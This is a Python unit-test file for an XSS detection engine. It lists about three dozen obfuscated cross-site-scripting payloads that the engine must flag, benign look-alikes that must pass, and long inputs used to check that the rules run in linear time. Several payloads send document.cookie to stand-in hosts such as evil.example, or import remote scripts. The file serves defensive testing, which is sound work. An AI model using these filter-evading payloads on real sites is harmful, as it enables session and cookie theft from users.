"""Unit: XSS shapes of the fresh20 first contact.

JavaScript with no markup that calls a sink indirectly (a sink handed to a method and the result called, a built-in
method stored on the window, ``call``/``apply`` as a template tag, a handler assigned a function, a sink name split by
blanks that a script URL's parser deletes); a ``javascript:`` URL whose code starts with a statement keyword; html5sec's
``[a]`` fuzzing placeholders, escaped ``\\n`` between attributes, U+FFFD inside a tag name, a spaced ``< script >``
probe; a control character between a closed quote and a handler, and a quote then any attribute calling a sink; a
``<meta>`` declaring UTF-7; XML Events handlers. Values are our own; none comes from a corpus."""

from __future__ import annotations

import time

import pytest

from bastion.detection import Context, Engine
from bastion.detection.xss import is_xss

BODY = Context("body", "note")
QUERY = Context("query", "comment")
HEADER = Context("header", "x-note")
ENGINE = Engine()

ATTACKS: dict[str, str] = {
    # 1. JavaScript without markup
    "sink_in_with_then_called": "[7,8].with(1,confirm).pop()(2)",
    "sink_concatenated_then_called": "[0].concat(prompt).at(-1)(3)",
    "builtin_stored_on_self": "self.q=[].at;self.q().pop().confirm(9)",
    "prototype_method_stored_on_top": "top.z=Array.prototype.with;top.z(0).prompt(2)",
    "call_as_template_tag": "call.apply`${location.assign}${location}${[name]}`",
    "bind_as_template_tag": "x.bind`${open}${top}`",
    "tab_entities_split_confirm": "c&Tab;o&Tab;n&Tab;f&Tab;i&Tab;r&Tab;m(7)",
    "newline_entity_and_paren_entities": "pr&NewLine;ompt&lpar;2&rpar;",
    "numeric_tab_entity": "al&#9;ert(3)",
    "raw_tabs_in_eval": "ev\tal('x')",
    "handler_arrow_fetches_cookie": "onerror=e=>fetch('//evil.example/k?'+document.cookie)",
    "window_handler_function": "window.onload=function(){alert(4)}",
    "async_arrow_import": "onclick=async()=>import('//x.example/m.js')",
    "handler_arrow_no_quote": "onload=_=>$.globalEval(name)",
    # 2. javascript: with blanks, statements, placeholders
    "newline_in_scheme_var_statement": "<a href=\"java\nscript:var u=document.cookie;fetch('//e.example/'+u)\">x</a>",
    "new_image_beacon": "<a href='javascript:new Image().src=`//e.example/?`+document.cookie'>go</a>",
    "tab_in_scheme_void": "<a href=\"jav\tascript:void fetch('//x.example')\">y</a>",
    "const_statement": "<area href='javascript:const d=document;d.write(1)'>",
    "placeholder_scheme": "<a href=\"[x]java[y]script[z]:confirm(2)\">z</a>",
    "placeholder_form_action": "<form action=\"[1]javascript[2]:prompt(1)\"><button>go</button></form>",
    "placeholder_in_tag": "<svg[x][y]onload[z]=confirm(1)>",
    # 3. control characters or // between a quote and a handler; attribute injections
    "percent_02_before_handler": "x\"%02onmouseover=confirm(2)>",
    "percent_1f_single_quote": "q'%1Fonfocus=alert(5) autofocus x='",
    "slashes_then_control": "z\"//%03onclick=prompt(7)//",
    "double_encoded_control": "w\"%2502onblur=alert(1)>",
    "quote_then_tabindex_sink": "\"tabindex=confirm(1)//",
    "single_quote_title_sink": "'title=prompt(2)//",
    # 4. junk inside a script tag's name
    "spaced_script_tag": "< script >confirm(1)</ script >",
    "vertical_tab_after_lt": "<\x0bscript>prompt(2)",
    "crlf_around_name": "<\r\nscript\r\n>alert\r\n(5)",
    "replacement_chars_in_name": "<script\ufffd\ufffd>confirm(3)</script>",
    "escaped_newlines_between_attributes": "<img\\tsrc=x\\tonerror=prompt(1)>",
    # 5. legacy html5sec forms
    "meta_utf7_then_utf7_markup": "<meta charset=\"utf-7\">+ADw-img src=x onerror=alert(1)+AD4-",
    "http_equiv_utf7": "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-7\"><p>x</p>",
    "xml_events_listener": "<listener xmlns:e=\"http://www.w3.org/2001/xml-events\" e:event=\"click\"/>",
    "xml_events_attribute": "<g xmlns:v=\"http://www.w3.org/2001/xml-events\" v:event=\"load\"><script>x</script></g>",
}


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_fresh20_xss_shape_is_refused(name: str) -> None:
    value = ATTACKS[name]
    for ctx in (BODY, QUERY, HEADER):
        found = ENGINE.inspect(value, ctx)
        assert found is not None and found.rule.attack == "xss", (name, ctx.kind)


BENIGN: list[str] = [
    "Use arr.with(0, value) to copy an array with one element replaced.",
    "notifier.send(user, alert)",
    "self.notify(user, alert); return handler(event)",
    "$('.alert').alert('close')",
    "window.onload = () => { render(); };",
    "The onload= attribute takes a function, see docs.",
    "<a href=\"https://example.com/javascript-guide\">JavaScript: let me explain</a>",
    "JavaScript: new features in ES2023 (with, toSorted)",
    "Set \"mode=confirm\" in the config file",
    "<meta charset=\"utf-8\">",
    "<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">",
    "Todo:\n[x] done\n[ ] pending <b>soon</b>",
    "checklist [a] first [b] second <i>later</i>",
    "if a < script_count > b then stop",
    "Line one\\nLine two <b>bold</b>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\"><circle r=\"4\"/></svg>",
    "<camunda:executionListener camunda:event=\"start\" class=\"com.example.Start\"/>",
    "caf\ufffd menu <b>today</b>",
    "name\talert level\tnotes",
    "Deploy steps:\n1. build\n2. test (unit)",
    "ranks.with(2, 'gold').map(format)",
]


@pytest.mark.parametrize("value", BENIGN)
def test_fresh20_look_alike_passes(value: str) -> None:
    assert is_xss(value) is None, value
    assert ENGINE.inspect(value, BODY) is None, value


ADVERSARIAL_RUNS: list[tuple[str, str, str]] = [  # (name, head, unit): the unit repeated to 128 KiB after the head
    ("placeholders", "<a ", "[b]"),
    ("escaped_blanks", "<", "\\n"),
    ("replacement_chars", "<script", "\ufffd"),
    ("tab_split", "", "a\t"),
    ("method_commas", ".x(", ",alert)"),
    ("window_assignments", "", "window.x=[].y;"),
    ("template_tags", "", ".call`${"),
    ("spaced_lt", "", "<\t"),
    ("spaced_lt_before_script", "<", "\t"),
    ("quote_attr", "", "\"a="),
    ("handler_arrow", "onload=", "("),
    ("xml_events", "xml-events ", "<g a:event"),
]


@pytest.mark.parametrize(("name", "head", "unit"), ADVERSARIAL_RUNS, ids=[r[0] for r in ADVERSARIAL_RUNS])
def test_fresh20_rules_stay_linear(name: str, head: str, unit: str) -> None:
    value = head + unit * (131072 // len(unit))
    start = time.process_time()
    ENGINE.inspect(value, BODY)
    assert time.process_time() - start < 1.0, name
